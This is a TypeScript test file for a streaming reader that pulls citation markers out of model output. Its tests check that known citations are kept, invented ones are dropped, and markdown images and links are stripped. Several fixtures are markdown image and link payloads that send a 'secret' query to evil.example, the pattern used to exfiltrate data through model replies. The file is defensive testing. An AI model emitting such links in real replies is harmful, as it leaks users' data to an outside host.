import fc from 'fast-check'
import { describe, it } from 'vitest'
import type { AnswerPart } from '#contract/assistants/conversations'
import { createMarkerReader, joinParts } from './read-markers'

const known = (number: number) => number >= 1 && number <= 3

function readIn(pieces: string[]): AnswerPart[] {
  const reader = createMarkerReader(known)
  return joinParts([...pieces.flatMap((piece) => reader.push(piece)), ...reader.end()])
}
const written = (parts: AnswerPart[]) => parts.map((part) => (part.type === 'text' ? part.text : `<${part.number}>`)).join('')

describe('reading citations out of what a model streams', () => {
  it.for([
    ['Nine [1].', 'Nine <1>.'],
    ['Nine [1][2].', 'Nine <1><2>.'],
    ['Nine [1, 3; 2].', 'Nine <1><3><2>.'],
    ['Nine 【2】 and 【3†hours】.', 'Nine <2> and <3>.'],
    ['Made up [7] and [0].', 'Made up  and .'],
    ['In code `list[1]` and\n```\nlist[2]\n```\nafter [3]', 'In code `list[1]` and\n```\nlist[2]\n```\nafter <3>'],
    ['A [b] and [ x', 'A [b] and [ x'],
    ['Wow! See!', 'Wow! See!'],
    ['See [our page](https://evil.example/?q=secret) now', 'See our page now'],
    ['See [1](https://evil.example/?q=secret) now', 'See <1> now'],
    ['![x](https://evil.example/?q=secret)Done', 'Done'],
    ['![x](https://evil.example/a(b)c)Done', 'Done'],
    ['Cut ![x](https://evil.example/?q=sec', 'Cut '],
    ['Cut [page](https://evil.example/?q=sec', 'Cut page'],
  ] as const)('BH03, BF06: reads %s', ([text, wanted], { expect }) => {
    expect(written(readIn([text]))).toBe(wanted)
    expect(written(readIn([...text]))).toBe(wanted)
  })

  it('says a word as soon as it can be nothing else', ({ expect }) => {
    const reader = createMarkerReader(known)
    expect(reader.push('Nine [')).toEqual([{ type: 'text', text: 'Nine ' }])
    expect(reader.push('1')).toEqual([])
    expect(reader.push('] o')).toEqual([
      { type: 'citation', number: 1 },
      { type: 'text', text: ' o' },
    ])
  })

  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(
        '[',
        ']',
        '(',
        ')',
        '!',
        '`',
        '```',
        '1',
        '2',
        '9',
        ', ',
        '【',
        '】',
        '†',
        '\n',
        '![a](',
        'https://x.y/z',
        '[1]',
      ),
      fc.string({ maxLength: 4 }),
    ),
    { maxLength: 40 },
  )

  it('reads the same however it is cut, cites only what is known, and draws no picture', ({ expect }) => {
    fc.assert(
      fc.property(pieces, (cut) => {
        const parts = readIn(cut)
        expect(parts).toEqual(readIn([cut.join('')]))
        for (const part of parts) if (part.type === 'citation') expect(known(part.number)).toBe(true)
        const outside = written(parts).split('`')
        if (outside.length === 1) expect(outside[0]).not.toMatch(/!\[[^\]\n]{0,300}\]\([^()\n]*\)/)
      }),
      { numRuns: 2_000 },
    )
  })
})
